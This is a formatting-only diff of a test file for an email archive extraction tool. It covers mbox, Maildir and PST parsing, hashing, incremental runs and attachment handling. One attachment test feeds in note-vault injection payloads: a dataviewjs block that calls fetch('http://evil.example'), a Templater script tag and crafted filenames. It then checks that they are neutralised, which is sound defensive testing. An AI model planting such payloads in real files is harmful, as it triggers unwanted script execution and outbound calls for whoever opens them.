@@ -47,7 +47,9 @@ describe("extract", () => {
     expect(run.exitCode, run.stderr).toBe(0);
     expect(run.stdout).toContain(`${mbox} [mbox]: 3 messages, 0 calendar events\n`);
     expect(run.stdout).toContain(`${maildir} [maildir]: 0 messages, 0 calendar events, 3 already there (kept once)\n`);
-    expect(run.stdout).toMatch(/Emails: 3\nCalendar events: 0\nContacts: 3\nThreads: 2 \(1 with more than one message\)/);
+    expect(run.stdout).toMatch(
+      /Emails: 3\nCalendar events: 0\nContacts: 3\nThreads: 2 \(1 with more than one message\)/,
+    );
     expect(run.stdout).toMatch(/\nSource hash: [0-9a-f]{64}\n\nNext:\n/);
   });
 
@@ -74,7 +76,9 @@ describe("extract", () => {
     const raw = rawMessage(LETTERS[2] as (typeof LETTERS)[number]);
     const { messages } = documentOf(output);
     // The reader of an mbox takes off the blank line that the writer put behind the message.
-    const candidates = [raw, raw.replace(/\n$/, "")].map((text) => `sha256:${createHash("sha256").update(text).digest("hex")}@archivetool`);
+    const candidates = [raw, raw.replace(/\n$/, "")].map(
+      (text) => `sha256:${createHash("sha256").update(text).digest("hex")}@archivetool`,
+    );
     expect(candidates).toContain(messages[2].message_id);
   });
 
@@ -108,7 +112,10 @@ describe("hashes", () => {
   it("of a Maildir change with one byte of one message", () => {
     const hashes = ["x", "y"].map((letter) => {
       const path = join(scratch, `byte-${letter}`);
-      writeMaildir(path, [`From: a@harbour.example\nSubject: s\n\n${letter}`, "From: b@harbour.example\nSubject: t\n\nsame"]);
+      writeMaildir(path, [
+        `From: a@harbour.example\nSubject: s\n\n${letter}`,
+        "From: b@harbour.example\nSubject: t\n\nsame",
+      ]);
       const output = newOutput();
       archivetool("extract", path, "-o", output, "--no-wiki");
       return provenanceOf(output).source_hash;
@@ -149,7 +156,8 @@ describe("bad input", () => {
     chmodSync(path, 0);
     expectOneLine([path], /secret\.mbox/);
   });
-  it("unknown redaction type", () => expectOneLine([mbox, "--redact", "shoe_size"], /email, phone, ssn, credit_card, ip/));
+  it("unknown redaction type", () =>
+    expectOneLine([mbox, "--redact", "shoe_size"], /email, phone, ssn, credit_card, ip/));
   it("a file behind --redact", () => expectOneLine([maildir, "--redact", mbox], /put files first/));
   it("a number that is none", () => expectOneLine([mbox, "--max-messages", "many"], /--max-messages/));
 
@@ -253,7 +261,9 @@ describe("an Outlook file that was cut short", () => {
     expect(stdout).toMatch(/cut\.pst \[pst\]: \d+ messages/);
     const { statistics, warnings } = provenanceOf(output);
     expect(statistics.total_messages).toBeGreaterThan(6);
-    expect(warnings.map(({ code }: { code: string }) => code)).toEqual(expect.arrayContaining(["file-truncated", "tree-rebuilt"]));
+    expect(warnings.map(({ code }: { code: string }) => code)).toEqual(
+      expect.arrayContaining(["file-truncated", "tree-rebuilt"]),
+    );
   });
 });
 
@@ -279,14 +289,19 @@ describe("--incremental with little left", () => {
     const run = archivetool("extract", mbox, maildir, "-o", output, "--incremental");
     expect(run.exitCode, run.stderr).toBe(0);
     expect(documentOf(output).messages).toHaveLength(3);
-    expect(documentOf(output).messages.map((message: { occurrences: unknown[] }) => message.occurrences.length)).toEqual([2, 2, 2]);
+    expect(
+      documentOf(output).messages.map((message: { occurrences: unknown[] }) => message.occurrences.length),
+    ).toEqual([2, 2, 2]);
     expect(existsSync(join(output, "emails.csv")), "what the output had is kept up").toBe(true);
   });
 
   it("knows copies again from extraction.json alone, and tells no key of redacted mail", () => {
     const letter = LETTERS[0] as (typeof LETTERS)[number];
     const path = join(scratch, "copied.mbox");
-    const copy = rawMessage({ ...letter, id: "copy@harbour.example" }).replace("\nTo: ", "\nBcc: hidden@quay.example\nTo: ");
+    const copy = rawMessage({ ...letter, id: "copy@harbour.example" }).replace(
+      "\nTo: ",
+      "\nBcc: hidden@quay.example\nTo: ",
+    );
     const other = rawMessage({ ...letter, body: "Another text under the same Message-ID." });
     writeMbox(path, [rawMessage(letter), copy, other]);
     const output = newOutput();
@@ -299,7 +314,9 @@ describe("--incremental with little left", () => {
     expect(run.exitCode, run.stderr).toBe(0);
     const after = documentOf(output).messages;
     expect(provenanceOf(output).sources[1].counts).toMatchObject({ seen: 3, kept: 0, duplicate: 3 });
-    expect(after.map((message: { id: string }) => message.id)).toEqual(before.map((message: { id: string }) => message.id));
+    expect(after.map((message: { id: string }) => message.id)).toEqual(
+      before.map((message: { id: string }) => message.id),
+    );
     expect(after[0].occurrences.map((place: { message_id?: string }) => place.message_id)).toEqual([
       undefined,
       "copy@harbour.example",
@@ -359,15 +376,26 @@ describe("--extract-attachments", () => {
 
   it("makes no note of what a mail brings into the vault, and no code of its name", () => {
     const path = join(scratch, "notes.eml");
-    const names = ["Home.md", "Home.md", "board.CANVAS", "all.base", "`= this.file`.txt", "[[index]] %%x%%.txt", "page.html"];
+    const names = [
+      "Home.md",
+      "Home.md",
+      "board.CANVAS",
+      "all.base",
+      "`= this.file`.txt",
+      "[[index]] %%x%%.txt",
+      "page.html",
+    ];
     const code = "```dataviewjs\nfetch('http://evil.example')\n```\n<%* tp.system.prompt() %>\n";
-    const part = (name: string): string => `--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="${name}"\n\n${code}`;
+    const part = (name: string): string =>
+      `--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="${name}"\n\n${code}`;
     const head = `From: a@harbour.example\nSubject: notes <%* 1 %> %%\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n`;
     writeFileSync(path, `${head}--b\n\n${code}\n${names.map(part).join("")}--b--\n`);
     const output = newOutput();
     expect(archivetool("extract", path, "-o", output, "--extract-attachments", "--json").exitCode).toBe(0);
     const [message] = documentOf(output).messages;
-    const saved = message.attachments.map((attachment: { path: string }) => attachment.path.replace("wiki/attachments/msg-000001/", ""));
+    const saved = message.attachments.map((attachment: { path: string }) =>
+      attachment.path.replace("wiki/attachments/msg-000001/", ""),
+    );
     expect(saved).toEqual([
       "Home.md.txt",
       "Home.md (2).txt",
@@ -381,7 +409,9 @@ describe("--extract-attachments", () => {
     for (const file of readdirSync(output, { recursive: true, encoding: "utf8" })) {
       expect(file.endsWith(".md") && file.includes("attachments"), file).toBe(false);
       if (!file.endsWith(".md")) continue;
-      expect(readFileSync(join(output, file), "utf8"), file).not.toMatch(/<%|%%|```(?!text|\n)|\[\[index\]\] __|`= this/);
+      expect(readFileSync(join(output, file), "utf8"), file).not.toMatch(
+        /<%|%%|```(?!text|\n)|\[\[index\]\] __|`= this/,
+      );
     }
   });
 });
@@ -407,25 +437,33 @@ it("keeps one message that lies in a mailbox ten thousand times once, with every
   expect(new Set(messages[0].occurrences.map(({ location }: { location: string }) => location)).size).toBe(10_000);
 });
 
-/** KiB of addresses. The V8 of Node 26 keeps more for each thread: with 4 GB it starts no third one, whatever the program. */
+/**
+ * KiB of addresses. The V8 of Node 26 keeps more for each thread: with 4 GB it starts no third one, whatever the
+ * program.
+ */
 const FEW_ADDRESSES_KIB = Number(process.versions.node.split(".")[0]) >= 26 ? 6_000_000 : 4_000_000;
 
-it.skipIf(process.platform !== "linux")("does with few addresses, of which memory is kept that may never be used", () => {
-  const store = join(scratch, "small.pst");
-  writeFileSync(store, fuzzStore({ layout: "unicode", encoding: "permute" }, 12, 2));
-  const limited = [
-    "-c",
-    `ulimit -v ${FEW_ADDRESSES_KIB}; exec "$@"`,
-    "bash",
-    process.execPath,
-    resolve(import.meta.dirname, "../../dist/cli/main.js"),
-  ];
-  const output = newOutput();
-  const run = spawnSync("bash", [...limited, "extract", mbox, store, "--jobs", "2", "--output", output], { encoding: "utf8" });
-  expect(run.stderr).not.toContain("allocation");
-  expect(run.status).toBe(0);
-  expect(provenanceOf(output).statistics.total_messages).toBe(LETTERS.length + 12);
-});
+it.skipIf(process.platform !== "linux")(
+  "does with few addresses, of which memory is kept that may never be used",
+  () => {
+    const store = join(scratch, "small.pst");
+    writeFileSync(store, fuzzStore({ layout: "unicode", encoding: "permute" }, 12, 2));
+    const limited = [
+      "-c",
+      `ulimit -v ${FEW_ADDRESSES_KIB}; exec "$@"`,
+      "bash",
+      process.execPath,
+      resolve(import.meta.dirname, "../../dist/cli/main.js"),
+    ];
+    const output = newOutput();
+    const run = spawnSync("bash", [...limited, "extract", mbox, store, "--jobs", "2", "--output", output], {
+      encoding: "utf8",
+    });
+    expect(run.stderr).not.toContain("allocation");
+    expect(run.status).toBe(0);
+    expect(provenanceOf(output).statistics.total_messages).toBe(LETTERS.length + 12);
+  },
+);
 
 it.skipIf(process.platform !== "linux" || process.getuid?.() !== 0)("says so when the disk is full", () => {
   const small = join(scratch, "small-disk");
